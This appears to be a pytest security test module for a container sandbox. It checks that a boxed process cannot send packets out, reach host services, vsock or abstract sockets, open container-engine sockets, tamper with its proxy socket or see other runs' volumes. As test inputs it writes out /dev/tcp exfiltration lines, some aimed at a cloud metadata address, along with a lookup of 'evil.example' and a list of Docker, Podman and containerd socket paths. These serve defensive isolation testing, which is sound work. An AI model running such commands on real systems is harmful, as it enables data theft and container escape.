"""Attacks: getting anything out of the box, by packets of its own or through the gateway.

What is *not* promised, and so not attacked here: what the box says inside a tunnel to a listed
name (its server name, its content) is between the box and that host.
"""

from __future__ import annotations

import contextlib
import json
import secrets
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from plandock.box import launch
from plandock.engines.protocol import VolumeMount
from tests.security.arena import Arena, Event
from tests.security.egress_payloads import DIRECT, REFUSED, TUNNELLED, knock
from tests.security.payloads import Payload, cases, python
from tests.security.recorder import OTHER, PRIVATE, PUBLIC

pytestmark = pytest.mark.split_by("engine")

HELLO = python(
    "import socket, ssl\n"
    "s=socket.socket(socket.AF_UNIX); s.settimeout(60); s.connect('/plandock/link/proxy.sock')\n"
    "n='allowed.example'; e='\\r\\n'\n"
    "s.sendall(f'CONNECT {n}:443 HTTP/1.1{e}Host: {n}:443{e}{e}'.encode())\n"
    "print(s.recv(999)); o=ssl.MemoryBIO()\n"
    "t=ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), o, server_hostname=n)\n"
    "try: t.do_handshake()\n"
    "except ssl.SSLWantReadError: pass\n"
    "s.sendall(o.read()); s.shutdown(socket.SHUT_WR)\n"
    "try: s.recv(9)\n"
    "except OSError: pass"
)


def reached(events: list[Event]) -> list[Event]:
    """The connections and packets that went anywhere but to the listed public host."""
    return [e for e in events if (e.get("to"), e.get("port")) != (PUBLIC, 443)]


def test_the_open_way_is_open_and_is_recorded(arena: Arena) -> None:
    """Positive control of all requests: a listed name's tunnel carries a TLS greeting outside."""
    before = arena.now()
    said = arena.box(HELLO).text
    assert "200" in said
    end = time.monotonic() + 240  # the gateway passes the greeting on in its own time
    while not any("allowed.example" in e.get("data", "") for e in arena.arrived(before)):
        assert time.monotonic() < end, arena.arrived(before)
        time.sleep(0.05)
    assert reached(arena.arrived(before)) == []


def test_the_recorder_sees_every_place_that_a_request_could_have_reached(arena: Arena) -> None:
    """Positive control of the refusals: each address answers to somebody who is let through."""
    before = arena.now()
    for place in (OTHER, PRIVATE, "169.254.169.254", "127.0.0.1", "::1", "fd00:213::7"):
        arena.open(f"exec 3<>/dev/tcp/{place}/443; echo stolen >&3")
    arena.open("getent ahosts evil.example")
    events = arena.arrived(before)
    assert len({e["to"] for e in events if e["kind"] == "data" and "stolen" in e["data"]}) == 6
    assert any(e["kind"] == "dns" and e["name"] == "evil.example" for e in events)


@pytest.mark.parametrize("payload", cases(DIRECT))
def test_a_packet_of_the_boxs_own_reaches_nothing(arena: Arena, payload: Payload) -> None:
    """Nothing arrives from the box, while the same from an open container does arrive."""
    before = arena.now()
    said = arena.box(payload.command)
    assert arena.arrived(before) == [], said
    before = arena.now()
    said = arena.open(payload.control or payload.command)
    assert arena.arrived(before) != [], said


@pytest.mark.parametrize("payload", cases(REFUSED))
def test_a_request_that_is_not_allowed_reaches_nothing(arena: Arena, payload: Payload) -> None:
    """The gateway asks for no name that is not listed, and opens no connection at all."""
    before = arena.now()
    said = arena.box(payload.command)
    assert arena.arrived(before) == [], said
    assert b"200 " not in said.stdout


@pytest.mark.parametrize("payload", cases(TUNNELLED))
def test_a_tunnel_leads_nowhere_but_to_the_listed_host(arena: Arena, payload: Payload) -> None:
    """Whatever is put beside, behind or inside an allowed request, no other place hears of it."""
    before = arena.now()
    said = arena.box(payload.command)
    assert reached(arena.arrived(before)) == [], said


# Services of the machine itself


def own_addresses() -> list[str]:
    """Every address of this machine: loopback, its network cards, the engines' bridges."""
    listed = subprocess.run(["ip", "-j", "address"], capture_output=True, text=True, check=True)
    found = [
        entry["local"]
        for link in json.loads(listed.stdout)
        for entry in link["addr_info"]
        if not entry["local"].startswith("fe80:")
    ]
    assert "127.0.0.1" in found
    return found


class Listener:
    """A service of the host on every address, which counts who comes."""

    def __init__(self, server: socket.socket) -> None:
        self.server = server
        self.came = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                client, _ = self.server.accept()
                self.came += 1
                # Who only knocks may have gone again before the answer.
                with client, contextlib.suppress(OSError):
                    client.sendall(b"reached")


@contextlib.contextmanager
def listening(server: socket.socket) -> Iterator[Listener]:
    """Serve until the block ends."""
    with server:
        yield Listener(server)
        with contextlib.suppress(OSError):
            server.shutdown(socket.SHUT_RDWR)


@pytest.mark.parametrize("way", ["direct", "gateway"])
def test_a_service_of_the_host_is_not_reached(arena: Arena, way: str) -> None:
    """A server of the test on every address of this machine, the engines' bridges among them."""
    server = socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)
    port = server.getsockname()[1]
    with listening(server) as host:
        for address in own_addresses():
            try:
                with socket.create_connection((address, port), 240) as line:
                    assert line.recv(9) == b"reached"  # positive control
            except OSError:
                if address in own_addresses():  # another test's bridge may go at any time
                    raise
        controls = host.came
        for address in own_addresses():
            if way == "direct":
                command = f"exec 3<>/dev/tcp/{address}/{port}; cat <&3"
            else:
                target = f"[{address}]:{port}" if ":" in address else f"{address}:{port}"
                command = knock(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
            assert b"reached" not in arena.box(command).stdout
        assert host.came == controls


def test_an_abstract_socket_of_the_host_is_not_reached(arena: Arena) -> None:
    """Abstract sockets belong to a network namespace: the box finds none but its own."""
    name = f"plandock-test-{secrets.token_hex(8)}"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(f"\0{name}")
    server.listen()
    program = (
        f"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0{name}'); print(s.recv(9))"
    )
    with listening(server) as host:
        done = subprocess.run(["bash", "-c", python(program)], capture_output=True, check=False)
        assert b"reached" in done.stdout  # positive control
        assert host.came == 1
        assert b"reached" not in arena.box(python(program)).stdout
        assert name not in arena.box("cat /proc/net/unix").text
        assert host.came == 1
        assert name in Path("/proc/net/unix").read_text()


# Where nobody answers, the kernel waits for two seconds: all at once.
VSOCK = """
import socket, sys, threading
def knock(cid):
    try:
        s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(60)
        s.connect((cid, PORT)); said = s.recv(9)
    except OSError as error: said = error
    print(f"{cid} {said}\\n", end="", flush=True)
for cid in (0, 1, 2, 3, 0xffffffff): threading.Thread(target=knock, args=(cid,)).start()
"""


def test_a_vsock_service_of_the_machine_is_not_reached(arena: Arena) -> None:
    """A virtual socket knows no network namespace; where the kernel has them, none is reached."""
    server, port = None, 1024
    try:
        server = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        server.bind((socket.VMADDR_CID_ANY, socket.VMADDR_PORT_ANY))
        server.listen()
        port = server.getsockname()[1]
    except OSError:
        if server is not None:
            server.close()
        server = None
    program = python(VSOCK.replace("PORT", str(port)))
    with listening(server) if server else contextlib.nullcontext() as host:
        said = arena.box(program).text
        assert said.count("\n") == 5
        assert "reached" not in said
        assert host is None or host.came == 0


ENGINE_SOCKETS = (
    "/var/run/docker.sock",
    "/run/docker.sock",
    "/run/podman/podman.sock",
    "/run/user/1000/podman/podman.sock",
    "/run/containerd/containerd.sock",
    "/var/run/crio/crio.sock",
    "/run/dbus/system_bus_socket",
    "/run/systemd/private",
    "/tmp/.X11-unix/X0",
)
_TRY = """
import socket, sys
for path in sys.argv[1:]:
    try:
        s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(path); print('opened', path)
    except OSError as error:
        print(path, error.strerror)
"""


def test_no_socket_of_an_engine_or_of_the_system_is_in_the_box(
    arena: Arena, tmp_path: Path
) -> None:
    """The usual paths lead nowhere, and the box's only sockets are its gateway's."""
    place = tmp_path / "s"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(place))
    server.listen()
    with listening(server):
        argv = ["bash", "-c", f"{python(_TRY)} {place}"]
        assert b"opened" in subprocess.run(argv, capture_output=True, check=False).stdout
    said = arena.box(f"{python(_TRY)} {' '.join(ENGINE_SOCKETS)}").text
    assert said.count("\n") == len(ENGINE_SOCKETS)
    assert "opened" not in said
    found = arena.box("find / -xdev -type s 2>/dev/null; find /plandock -type s").text.split()
    assert found == ["/plandock/link/proxy.sock"]


def test_the_gateways_socket_cannot_be_replaced_or_lent(arena: Arena) -> None:
    """The box can neither put a listener of its own in the gateway's place nor remove it."""
    for command in (
        "rm /plandock/link/proxy.sock",
        "mv /plandock/link/proxy.sock /plandock/link/old.sock",
        "touch /plandock/link/upstream.sock",
        python("import socket; socket.socket(1).bind('/plandock/link/upstream.sock')"),
        "mount -o remount,rw /plandock/link",
        "umount /plandock/link",
    ):
        assert not arena.box(command).ok, command
    assert (
        arena.box("test -S /plandock/link/proxy.sock; ls -A /plandock/link").text == "proxy.sock\n"
    )


def test_the_volumes_of_other_runs_are_not_in_the_box(arena: Arena) -> None:
    """Another run's socket and files cannot be found; a container that is given them sees them."""
    mark = f"marker-{secrets.token_hex(8)}"
    other = f"plandock-{arena.mark}x-link"
    arena.engine.create_volume(other, {"plandock.test": arena.mark})
    mounted = VolumeMount(other, "/other")
    script = f"touch /other/{mark}; find / -xdev -name '{mark}'; find /other"
    control = arena.spec("other", "sh", "-c", script, user="0:0", volumes=(mounted,))
    assert mark in arena.engine.run(control).text  # positive control
    assert mark not in arena.box(f"find / -name '{mark}' 2>/dev/null").text
    mounts = arena.box("cat /proc/self/mountinfo").text
    assert f"/{launch.names_of(arena.run).link}/" in mounts  # positive control
    assert other not in mounts
